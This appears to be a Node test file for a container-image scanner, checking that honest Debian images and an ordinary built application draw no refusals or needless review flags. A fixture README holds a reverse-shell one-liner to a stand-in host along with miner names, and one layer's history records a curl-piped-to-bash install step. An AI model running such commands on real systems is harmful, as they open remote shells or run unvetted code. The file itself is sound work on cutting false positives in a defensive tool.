import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, test } from 'node:test';
import { inspect, type Report } from '../../src/index.ts';
import { type DebianVariant, debianRoot, missingForDebian, writeLayer } from '../peers/debian.ts';
import { debianPackage } from '../peers/debian-package.ts';
import { writeDockerSave } from '../peers/docker-save.ts';
import { storageFlags } from '../peers/engines.ts';
import { isInstalled, run } from '../peers/run.ts';

/*
 * Real honest images. Nothing in them is refused, and what a person is asked to look at is worth a look: a scanner that
 * cries wolf is switched off.
 */

const folder = mkdtempSync(join(tmpdir(), 'pratique-quiet-'));
const file = (name: string): string => join(folder, name);
after(() => rmSync(folder, { recursive: true, force: true }));

/** Milliseconds a test may take, debootstrap of the largest image included. */
const MOST = 15 * 60_000;

function lacking(variant: DebianVariant, ...programs: readonly string[]): string | false {
  const missing = programs.filter((program) => !isInstalled(program));
  if (missing.length > 0) return `not installed: ${missing.join(', ')}`;
  return missingForDebian(variant) ?? false;
}

async function saveDebian(variant: DebianVariant): Promise<string> {
  const layer = file(`${variant}.layer`);
  writeLayer(await debianRoot(variant), layer);
  const archive = file(`${variant}.tar`);
  const config = {
    Cmd: ['bash'],
    Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin'],
  };
  const history = [{ created_by: '/bin/sh -c #(nop) ADD file:rootfs in / ' }];
  await writeDockerSave(archive, { tag: `example.invalid/${variant}:1`, layers: [layer], config, history });
  return archive;
}

function linesOf({ findings }: Report, tier: string): string[] {
  return findings
    .filter((finding) => finding.tier === tier)
    .map(({ rule, location: { path, config }, evidence }) => `${rule} ${path ?? config}: ${evidence}`);
}

function unreadOf({ problems }: Report): string[] {
  return problems
    .filter(({ effect }) => effect === 'incomplete')
    .map(({ code, path, message }) => `${code} ${path ?? ''}: ${message}`);
}

const VARIANTS: readonly [variant: DebianVariant, reviews: number][] = [
  ['bookworm-minbase', 0],
  ['bookworm-rich', 3],
];

for (const [variant, reviews] of VARIANTS) {
  test(`${variant}: nothing refused, at most ${reviews} to look at`, {
    skip: lacking(variant, 'tar'),
    timeout: MOST,
  }, async () => {
    const report = await inspect(await saveDebian(variant), { cache: false });
    assert.deepEqual(linesOf(report, 'block'), []);
    assert.deepEqual(unreadOf(report), []);
    const review = linesOf(report, 'review');
    assert.ok(review.length <= reviews, review.join('\n'));
    assert.equal(report.decision.outcome, review.length === 0 ? 'allow' : 'undetermined');
    rmSync(file(`${variant}.tar`), { force: true });
  });
}

const DOCKERFILE = `FROM base
RUN useradd --system --create-home --home-dir /app --shell /usr/sbin/nologin app
COPY files/ /
ENV NODE_OPTIONS=--max-old-space-size=2048 PORT=8080
HEALTHCHECK CMD curl -f http://localhost || exit 1
USER app
WORKDIR /app
EXPOSE 8080
ENTRYPOINT ["/entry.sh"]
CMD ["serve", "--port", "8080"]
`;

const FILES: Readonly<Record<string, string>> = {
  'entry.sh': '#!/bin/sh\nset -e\numask 077\nexec "$@"\n',
  'app/README.md': 'Watches for xmrig, kdevtmpfsi and `bash -i >& /dev/tcp/evil.invalid/4444 0>&1`.\n',
  'usr/local/lib/python3.11/dist-packages/distutils-precedence.pth':
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
};

/** What is built: two static programs of others, one written in Go, one in C, in the places applications use. */
async function makeContext(): Promise<string> {
  const context = file('context');
  const put = (name: string): string => {
    const path = join(context, 'files', name);
    mkdirSync(dirname(path), { recursive: true });
    return path;
  };
  for (const [name, text] of Object.entries(FILES)) writeFileSync(put(name), text, { mode: 0o755 });
  const written = join(await debianPackage('gosu'), 'usr/sbin/gosu');
  for (const name of ['usr/local/bin/serve', 'app/serve']) copyFileSync(written, put(name));
  copyFileSync(join(await debianPackage('busybox-static'), 'bin/busybox'), put('server'));
  writeFileSync(join(context, 'Dockerfile'), DOCKERFILE);
  return context;
}

/** An application as people build them, on Debian minbase: with Buildah, and with a step more by umoci. */
async function buildApplication(): Promise<readonly string[]> {
  const buildah = (...args: string[]): string => run('buildah', [...storageFlags(folder), ...args]).trim();
  const base = buildah('pull', '-q', `docker-archive:${await saveDebian('bookworm-minbase')}`);
  buildah('tag', base, 'localhost/base');
  const flags = ['--isolation', 'chroot', '--format', 'docker', '--layers', '--from', 'localhost/base'];
  buildah('build', '-q', ...flags, '-t', 'localhost/app', await makeContext());
  const archive = file('app.tar');
  buildah('push', '-q', 'localhost/app', `docker-archive:${archive}:example.invalid/app:1`);

  const layout = `${file('layout')}:app`;
  run('skopeo', ['--insecure-policy', 'copy', '-q', `docker-archive:${archive}`, `oci:${layout}`]);
  const bundle = file('bundle');
  run('umoci', ['unpack', '--image', layout, bundle]);
  mkdirSync(join(bundle, 'rootfs/opt/tool'), { recursive: true });
  writeFileSync(join(bundle, 'rootfs/opt/tool/VERSION'), '1.0\n');
  const step = 'RUN /bin/sh -c curl -fsSL https://deb.nodesource.com/setup_22.x | bash - # buildkit';
  run('umoci', ['repack', '--history.created_by', step, '--image', layout, bundle]);
  return [archive, `oci:${layout}`];
}

const skip = lacking('bookworm-minbase', 'tar', 'buildah', 'skopeo', 'umoci', 'apt-get');

test('an ordinary application is allowed, with nothing above a note', { skip, timeout: MOST }, async () => {
  const [archive = '', layout = ''] = await buildApplication();
  const reports = [await inspect(archive, { cache: false }), await inspect(layout, { cache: false })];
  for (const report of reports) {
    assert.deepEqual([...linesOf(report, 'block'), ...linesOf(report, 'review')], []);
    assert.deepEqual(unreadOf(report), []);
    assert.equal(report.decision.outcome, 'allow');
    assert.deepEqual(report.image.config.entrypoint, ['/entry.sh']);
  }
  const [built, extended] = reports;
  assert.equal(built?.image.config.healthcheck.join(' '), 'CMD-SHELL curl -f http://localhost || exit 1');
  assert.match(extended?.image.config.history.at(-1)?.createdBy ?? '', /deb\.nodesource\.com/);
});
